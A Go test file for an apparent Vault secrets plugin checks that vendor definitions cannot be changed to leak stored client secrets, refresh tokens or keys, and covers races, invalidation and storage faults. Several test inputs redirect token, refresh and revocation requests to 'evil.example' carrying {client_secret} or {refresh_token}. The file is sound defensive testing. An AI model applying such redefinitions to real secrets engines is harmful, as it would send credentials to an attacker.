package tokenbroker_test

import (
	"context"
	"encoding/json"
	"maps"
	"net/http"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/hashicorp/vault/sdk/logical"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"vault-plugin-secrets-tokenbroker/internal/testing/engine"
)

// elsewhere sends acme's secrets to another host.
func elsewhere() map[string]any { return redefine("{region}.acme.example", "{region}.evil.example") }

// withoutAudience has no field audience.
func withoutAudience() map[string]any {
	return redefine(`, "audience": {"description": "the API (orders)"}`, "", `, "audience": "{audience}"`, "")
}

func TestGuarantee13ADefinitionInUseIsNotChangedToSendAStoredSecretElsewhere(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		e, v := newAcme(t)
		e.Write("config/acme/prod", acmeFields)
		for name, definition := range map[string]map[string]any{
			"host":       elsewhere(),
			"path":       redefine(".example/token", ".example/other"),
			"step":       redefine(`"request": {"form"`, `"before": [{"request": {"url": "https://evil.example/", "form": {"s": "{client_secret}"}}}], "request": {"form"`),
			"revocation": redefine(`"answer":`, `"revocation": {"url": "https://evil.example/"}, "answer":`),
			"refresh":    redefine(`"auth": "client_secret_post",`, `"auth": "client_secret_post", "refresh": {"url": "https://evil.example/", "form": {"r": "{refresh_token}"}},`),
		} {
			message := refusedWrite(e, "vendors/acme", definition)
			assert.Contains(t, message, "definition: with it, the stored secrets of config/acme/prod would be sent to a new destination", name)
			assert.NotContains(t, message, acmeSecret, "guarantee 6")
		}
		_, status, message := e.Request(logical.DeleteOperation, "vendors/acme", nil)
		assert.Equal(t, http.StatusBadRequest, status)
		assert.Contains(t, message, "vendor: config/acme/prod uses the definition; delete its credentials first (1 in all)")

		e.Restart()
		assert.Contains(t, refusedWrite(e, "vendors/acme", elsewhere()), "new destination", "nor after a restart")
		assert.Zero(t, strings.Compare(acmeDefinition, e.Read("vendors/acme").Data["definition"].(string)), "byte for byte")
		e.Write("refresh/prod", nil)
		close(v.hosts)
		for host := range v.hosts {
			assert.Equal(t, "eu.acme.example", host)
		}
		v.hosts = make(chan string, 100)

		e.Write("vendors/acme", redefine("Create a client.", "Create an application."))
		_, status, _ = e.Request(logical.DeleteOperation, "config/acme/prod", nil)
		require.Equal(t, 200, status)
		e.Write("vendors/acme", elsewhere())
		e.Write("config/acme/prod", acmeFields)
		assert.Equal(t, "eu.evil.example", <-v.hosts, "a secret that is given again goes where its writer says")
	})
}

// A writer of definitions learns no secret that another operator has stored.
func TestGuarantee6ADefinitionShowsNoStoredSecretToReaders(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		const code = "s3cr3t-code-of-acme"
		definition := func(oldnew ...string) map[string]any {
			return map[string]any{"definition": strings.NewReplacer(oldnew...).Replace(`{
				"title": "Acme", "fields": {"pass_code": {"description": "the code (x)", "secret": true, "required": true}, "private_key": {}},
				"token_url": "https://eu.acme.example/token",
				"answer": {"token": "/token", "refresh_token": "/next"},
				"grants": [
					{"grant_type": "code", "request": {"form": {"code": "{pass_code}"}}},
					{"grant_type": "self_signed", "needs": ["private_key"], "token": "{assertion}",
						"assertion": {"claims": {"iss": "acme", "sub": "{private_key|public_sha256}"}}}
				]
			}`)}
		}
		e, _ := newAcme(t)
		e.Write("vendors/acme", definition())
		e.Write("config/acme/prod", map[string]any{"pass_code": code, "verify": false})
		for name, test := range map[string]struct {
			definition map[string]any
			want       string
		}{
			"a field that is not a secret any more": {definition(`"secret": true, `, ``), "definition: /fields/pass_code: must stay a secret, as config/acme/prod has it as one"},
			"a claim of a token":                    {definition(`"iss": "acme"`, `"iss": "{pass_code}"`), "definition: /grants/1/assertion/claims: {pass_code} is a secret"},
			"a digest in a header of a token":       {definition(`"claims": {"iss"`, `"headers": {"x": "{pass_code|sha256}"}, "claims": {"iss"`), "{pass_code|sha256} is a secret"},
			"a private key in a request":            {definition(`{"code": "{pass_code}"}`, `{"code": "{pass_code}", "k": "{private_key}"}`), "definition: /grants/0/request/form/k: {private_key} is a key, which signs and is not sent"},
			"a private key in a claim":              {definition(`"iss": "acme"`, `"iss": "{private_key|sha256}"`), "is a secret"},
			"a token that the engine signs": {definition(`"grant_type": "code", "request": {"form": {"code": "{pass_code}"}}`, `"grant_type": "code", "token": "{assertion}", "assertion": {"key": "pass_code", "algorithms": ["HS256"], "claims": {"iss": "acme"}}`),
				"the stored secrets of config/acme/prod would be sent to a new destination"},
			"a header of the API":          {definition(`"token_url"`, `"api": {"headers": {"X-Code": "{pass_code|base64}"}}, "token_url"`), "definition: /api/headers/X-Code: {pass_code} is not a field that readers may see"},
			"a refresh token as the token": {definition(`"/token", "refresh_token": "/next"`, `"/next"`), "definition: with it, readers would see the refresh tokens of config/acme/prod"},
			"a refresh token as a member":  {definition(`"/next"`, `"", "extra": {"region": "/next"}`), "definition: with it, readers would see the refresh tokens of config/acme/prod"},
			"a refresh token, by its name": {definition(`"/token"`, `"/data/refreshToken"`), "definition: /answer/token: a refresh token is not for readers"},
		} {
			assert.Contains(t, refusedWrite(e, "vendors/acme", test.definition), test.want, name)
		}
		e.Write("vendors/acme", definition(`"Acme"`, `"Acme Inc."`))
		assert.Equal(t, []string{"pass_code"}, e.Read("config/acme/prod").Data["secrets_set"])

		// Nor does an engine whose own definition of a vendor changed.
		e.Write("config/kensho/scribe", map[string]any{"refresh_token": engine.RefreshToken, "product": "scribe", "verify": false})
		for key := range e.Dump() {
			if strings.HasSuffix(key, "/scribe") && strings.Contains(key, "kensho") {
				edited(t, e, key, func(entry map[string]any) { entry["secrets"] = append(entry["secrets"].([]any), "product") })
			}
		}
		e.Restart()
		assert.NotEqual(t, "scribe", e.Read("config/kensho/scribe").Data["product"])
	})
}

func TestGuarantee17AKeyPairSignsTokensOnlyForItsAudiences(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		definition := map[string]any{"definition": `{
			"title": "Acme", "fields": {"private_key": {}, "service": {"description": "the service (orders)", "required": true}},
			"grants": [{"grant_type": "self_signed", "token": "{assertion}", "assertion": {"claims": {"iss": "acme", "aud": "https://{service}.acme.example"}}}]
		}`}
		e, _ := newAcme(t)
		e.Write("vendors/acme", definition)
		e.Write("keypair/prod", map[string]any{"allowed_audiences": "https://orders.acme.example"})
		generated := map[string]any{"private_key_source": "generated", "service": "orders"}
		e.Write("config/acme/prod", generated)
		assert.Contains(t, refusedWrite(e, "config/acme/prod", map[string]any{"service": "salaries"}), "does not sign for the audience")
		definition["definition"] = strings.Replace(definition["definition"].(string), "acme.example", "evil.example", 1)
		assert.Contains(t, refusedWrite(e, "vendors/acme", definition), "is refused: keypair: keypair/prod does not sign for the audience")

		e.Write("vendors/other", definition)
		e.Write("config/other/given", map[string]any{"private_key": engine.PrivateKeyPEM(), "service": "orders"})
		assert.Contains(t, refusedWrite(e, "config/other/given", map[string]any{"service": "salaries"}), "private_key", "a stored key signs only for what its writer chose")
	})
}

// edited changes a storage entry.
func edited(t *testing.T, e *engine.Engine, key string, edit func(entry map[string]any)) {
	t.Helper()
	entry := map[string]any{}
	require.NoError(t, json.Unmarshal([]byte(e.Dump()[key]), &entry))
	edit(entry)
	stored, err := logical.StorageEntryJSON(key, entry)
	require.NoError(t, err)
	require.NoError(t, e.Storage.Put(t.Context(), stored))
}

func TestADefinitionInUseKeepsTheFieldsThatAreStored(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		e, _ := newAcme(t)
		fields := map[string]any{"audience": "orders"}
		for name, value := range acmeFields {
			fields[name] = value
		}
		e.Write("config/acme/prod", fields)
		audience := `, "audience": {"description": "the API (orders)"}`
		for name, test := range map[string]struct {
			definition map[string]any
			want       string
		}{
			"field that disappears":      {withoutAudience(), "config/acme/prod has a field, or a value of a type, that this definition does not have"},
			"field of another type":      {redefine(`"the API (orders)"}`, `"the API (orders)", "type": "duration"}`), "definition: "},
			"value that is not allowed":  {redefine(`"the API (orders)"}`, `"the API (orders)", "allowed": ["invoices"]}`), `definition: with it, config/acme/prod is refused: audience: unknown value "orders"`},
			"field that must be set now": {redefine(audience, audience+`, "tenant": {"description": "the tenant", "required": true}`, `"audience": "{audience}"`, `"audience": "{audience}", "tenant": "{tenant}"`), "is refused: tenant: must be set"},
			"pattern":                    {redefine(`"[a-z]{2}"`, `"[a-z]{3}"`), `is refused: region: "eu" is not what Acme needs`},
			"secret that is none":        {redefine(`"client_id": {"required": true}`, `"client_id": {"required": true, "secret": true}`, `"X-Acme-Client": "{client_id}"`, `"X-Acme-Client": "{region}"`), ""},
		} {
			_, status, message := e.Request(logical.UpdateOperation, "vendors/acme", test.definition)
			if test.want == "" {
				require.Equal(t, 200, status, message)
				assert.NotContains(t, e.Read("config/acme/prod").Data, "client_id", "it is a secret from now on")
				continue
			}
			require.Equal(t, http.StatusBadRequest, status, name)
			assert.Contains(t, message, test.want, name)
			assert.Equal(t, "orders", e.Read("config/acme/prod").Data["audience"], name)
		}
	})
}

// begin sends a write that waits for the vendor, and returns its status and message once it ends.
func (v *acmeVendor) begin(e *engine.Engine, path string, data map[string]any) (ended chan [2]any) {
	ended = make(chan [2]any, 1)
	go func() {
		_, status, message := e.Request(logical.UpdateOperation, path, data)
		ended <- [2]any{status, message}
	}()
	<-v.hosts
	return ended
}

// The definition changes while the vendor verifies a credential that is not stored yet.
func TestGuarantee13ACredentialIsStoredOnlyWithTheDefinitionThatItWasVerifiedWith(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		for name, change := range map[string]func(e *engine.Engine) int{
			"changed": func(e *engine.Engine) int {
				_, status, _ := e.Request(logical.UpdateOperation, "vendors/acme", elsewhere())
				return status
			},
			"deleted": func(e *engine.Engine) int {
				_, status, _ := e.Request(logical.DeleteOperation, "vendors/acme", nil)
				return status
			},
		} {
			e, v := newAcme(t)
			v.wait = make(chan struct{})
			credential := v.begin(e, "config/acme/prod", acmeFields)
			assert.Equal(t, 200, change(e), "%s: no credential is stored, and the change does not wait for a vendor", name)
			close(v.wait)
			ended := <-credential
			assert.Equal(t, http.StatusBadRequest, ended[0], name)
			assert.Equal(t, "vendors/acme was changed while the credential was verified, and nothing was stored; send the write again", ended[1], name)
			for key := range e.Dump() {
				assert.NotContains(t, key, "prod", name)
			}
		}
	})
}

// The definition changes while the vendor verifies a stored credential again.
func TestAChangeOfADefinitionWaitsForWritesOfItsCredentialsAsLongAsItsSenderDoes(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		e, v := newAcme(t)
		e.Write("config/acme/prod", acmeFields)
		<-v.hosts
		v.wait = make(chan struct{})
		credential := v.begin(e, "config/acme/prod", acmeFields)

		impatient, cancel := context.WithTimeout(t.Context(), time.Second)
		defer cancel()
		_, status, message := e.RequestWithin(impatient, logical.UpdateOperation, "vendors/acme", redefine())
		assert.Equal(t, http.StatusServiceUnavailable, status)
		assert.Contains(t, message, `"acme" is busy with another request; try again`)

		definition := make(chan string, 1)
		go func() {
			_, _, message := e.Request(logical.UpdateOperation, "vendors/acme", withoutAudience())
			definition <- message
		}()
		synctest.Wait()
		wait := v.wait
		v.wait = nil
		added := maps.Clone(acmeFields)
		added["audience"] = "orders"
		e.Write("config/acme/added", added) // is not held up
		close(wait)
		assert.Equal(t, 200, (<-credential)[0])
		assert.Contains(t, <-definition, "config/acme/added has a field", "it was added meanwhile, and counts")
	})
}

func TestADefinitionOfAnotherNodeCountsOnceItIsInvalidated(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		e, v := newAcme(t)
		e.Write("config/acme/prod", acmeFields)
		e.Read("vendors/acme")
		standby := e.Backend
		e.Restart() // acts as the active node on the same storage
		e.Write("vendors/acme", redefine(`"Acme"`, `"Acme Inc."`, `"header": "X-Acme-Token"`, `"header": "X-Next-Token"`))
		e.Write("vendors/other", redefine())
		e.Backend = standby
		e.Backend.InvalidateKey(t.Context(), "vendors/acme")
		for _, key := range []string{"vendor/acme", "vendors/acme"} {
			e.Backend.InvalidateKey(t.Context(), key)
		}
		assert.Equal(t, "Acme Inc.", e.Read("vendors/acme").Data["title"])
		resp, status, message := e.Request(logical.ReadOperation, "creds/prod", nil)
		require.Equal(t, 200, status, message)
		assert.True(t, strings.HasPrefix(resp.Data["http_header"].(string), "X-Next-Token: "))
		assert.Equal(t, "Acme", e.Read("vendors/other").Data["title"])
		assert.NotZero(t, v.requests.Load())
	})
}

func TestADamagedDefinitionIsReportedAndCanBeReplaced(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		e, _ := newAcme(t)
		e.Write("config/acme/prod", acmeFields)
		var key string
		for stored := range e.Dump() {
			if strings.HasPrefix(stored, "vendor/") {
				key = stored
			}
		}
		require.NotEmpty(t, key)
		e.Damage(key)
		e.Restart()
		status, message := e.Refused("vendors/acme")
		assert.Equal(t, http.StatusInternalServerError, status)
		assert.Contains(t, message, "write the definition again")
		resp, status, message := e.Request(logical.ListOperation, "vendors/", nil)
		require.Equal(t, 200, status, message)
		assert.Equal(t, map[string]any{"title": "(cannot be read)", "built_in": false}, resp.Data["key_info"].(map[string]any)["acme"])
		e.Read("vendors/snowflake")

		assert.Contains(t, refusedWrite(e, "vendors/acme", elsewhere()), "new destination", "guarantee 13")
		e.Write("vendors/acme", redefine())
		_, status, message = e.Request(logical.ReadOperation, "creds/prod", nil)
		assert.Equal(t, 200, status, message)
	})
}

func TestAWriteThatStorageRefusesChangesNothing(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		e, _ := newAcme(t)
		storage := &engine.FaultyStorage{Storage: e.Storage}
		e.Storage = storage
		e.Restart()
		e.Write("config/acme/prod", acmeFields)
		for _, path := range []string{"vendors/acme", "vendors/next"} {
			storage.Refuse.Store(true)
			_, status, _ := e.Request(logical.UpdateOperation, path, redefine(`"Acme"`, `"Acme Inc."`))
			assert.Equal(t, http.StatusInternalServerError, status, path)
			storage.Refuse.Store(false)
		}
		assert.Equal(t, "Acme", e.Read("vendors/acme").Data["title"])
		_, status, _ := e.Request(logical.ReadOperation, "vendors/next", nil)
		assert.Equal(t, http.StatusNotFound, status)

		storage.RefuseReads.Store(true)
		_, status, _ = e.Request(logical.UpdateOperation, "vendors/acme", elsewhere())
		assert.Equal(t, http.StatusInternalServerError, status, "whether it is in use cannot be read")
		_, status, _ = e.Request(logical.DeleteOperation, "vendors/acme", nil)
		assert.Equal(t, http.StatusInternalServerError, status)
		storage.RefuseReads.Store(false)

		_, status, _ = e.Request(logical.DeleteOperation, "config/acme/prod", nil)
		require.Equal(t, 200, status)
		storage.RefuseDeletes.Store(true)
		_, status, _ = e.Request(logical.DeleteOperation, "vendors/acme", nil)
		assert.Equal(t, http.StatusInternalServerError, status)
		storage.RefuseDeletes.Store(false)
		assert.Equal(t, "Acme", e.Read("vendors/acme").Data["title"])
		e.Restart()
		e.Write("config/acme/prod", acmeFields)
	})
}
